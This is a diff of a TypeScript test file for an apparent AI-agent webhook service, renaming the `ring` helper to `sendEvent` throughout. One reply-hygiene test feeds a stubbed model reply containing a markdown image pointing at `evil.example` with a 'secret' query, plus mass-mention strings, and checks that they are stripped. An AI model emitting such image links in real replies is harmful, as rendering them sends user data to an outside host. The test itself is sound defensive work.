@@ -25,7 +25,7 @@ verifies(
     await using shop = await startShop({ env: model.env })
     const { ctx } = shop.app.app
     const inAMonth = () => new Date(Date.now() + 31 * 86_400_000)
-    const { runId } = await shop.ring(await shop.createWebhook())
+    const { runId } = await shop.sendEvent(await shop.createWebhook())
     const waiting = await shop.runWhen(runId, ({ status }) => status === 'waiting')
     await pruneRuns({ ...ctx, now: inAMonth })
     await shop.app.api('POST', `/api/v1/approvals/${waiting.toolCalls[0]?.approvalId}/deny`, {})
@@ -68,7 +68,7 @@ verifies(
   async () => {
     await using shop = await startShop()
     const { ctx } = shop.app.app
-    const run = await shop.endedRun((await shop.ring(await shop.createWebhook())).runId)
+    const run = await shop.endedRun((await shop.sendEvent(await shop.createWebhook())).runId)
     const days = (n: number) => () => new Date(Date.now() + n * 86_400_000)
     const say = async (text: string, daysAgo: number, threadId: MessageId | null = null) => {
       const id = newId('message', days(-daysAgo)())
@@ -149,8 +149,8 @@ verifies('models:providers', 'Anthropic is asked to cache the stable beginning o
   await using model = await startStubAnthropic([{ text: 'Fine.' }])
   await using shop = await startShopOn(await sharedApp(), { model })
   const webhook = await shop.createWebhook()
-  await shop.endedRun((await shop.ring(webhook, '{"n":1}')).runId)
-  await shop.endedRun((await shop.ring(webhook, '{"n":2}')).runId)
+  await shop.endedRun((await shop.sendEvent(webhook, '{"n":1}')).runId)
+  await shop.endedRun((await shop.sendEvent(webhook, '{"n":2}')).runId)
   const systems = model.requests.map(({ json }) => JSON.stringify(json.system))
   assert.match(systems[0] ?? '', /"cache_control":\{"type":"ephemeral"\}/)
   assert.equal(systems[0], systems[1])
@@ -168,7 +168,7 @@ verifies('runs:model-errors', 'text that a provider refuses is made safe and sen
     model,
     answer: (_request, response) => response.setHeader('content-type', 'text/plain').end('a\0b'),
   })
-  const run = await shop.endedRun((await shop.ring(await shop.createWebhook())).runId)
+  const run = await shop.endedRun((await shop.sendEvent(await shop.createWebhook())).runId)
   assert.deepEqual([run.status, run.reply?.text, run.steps.length], ['succeeded', 'Read.', 2])
   assert.deepEqual(
     model.requests.map(({ body }) => refuses(body)),
@@ -187,7 +187,7 @@ verifies(
       },
     ])
     await using shop = await startShopOn(await sharedApp(), { model })
-    await shop.endedRun((await shop.ring(await shop.createWebhook())).runId)
+    await shop.endedRun((await shop.sendEvent(await shop.createWebhook())).runId)
     assert.equal((await shop.replies())[0]?.text, 'Paid cba x 👩\u200d💻 ❤\ufe0f\nnext `ab`')
   },
 )
@@ -197,14 +197,14 @@ verifies('runs:reply-hygiene', 'a reply mentions no groups and loads no image', 
     { text: 'Hey @everyone, <!channel> look: ![x](https://evil.example/?q=secret)' },
   ])
   await using shop = await startShopOn(await sharedApp(), { model })
-  await shop.endedRun((await shop.ring(await shop.createWebhook())).runId)
+  await shop.endedRun((await shop.sendEvent(await shop.createWebhook())).runId)
   const text = (await shop.replies())[0]?.text ?? ''
   assert.ok(!/@everyone|<!channel>|!\[/.test(text), text)
 })
 
 verifies('log:event-to-reply-histogram', 'the time from event to reply is counted', async () => {
   await using shop = await startShop()
-  await shop.endedRun((await shop.ring(await shop.createWebhook())).runId)
+  await shop.endedRun((await shop.sendEvent(await shop.createWebhook())).runId)
   // The run ends a moment before it is counted.
   await until(async () => {
     const { text } = await shop.app.api('GET', '/metrics')
@@ -264,7 +264,7 @@ verifies(
       model,
       answer: (_request, response) => response.setHeader('content-type', 'image/png').end(png),
     })
-    const run = await shop.endedRun((await shop.ring(await shop.createWebhook())).runId)
+    const run = await shop.endedRun((await shop.sendEvent(await shop.createWebhook())).runId)
     assert.deepEqual([run.status, run.reply?.text], ['succeeded', 'A dot.'])
     const told = model.requests[1]?.body ?? ''
     assert.ok(told.includes('"media_type":"image/png"') && told.includes(png.toString('base64')))
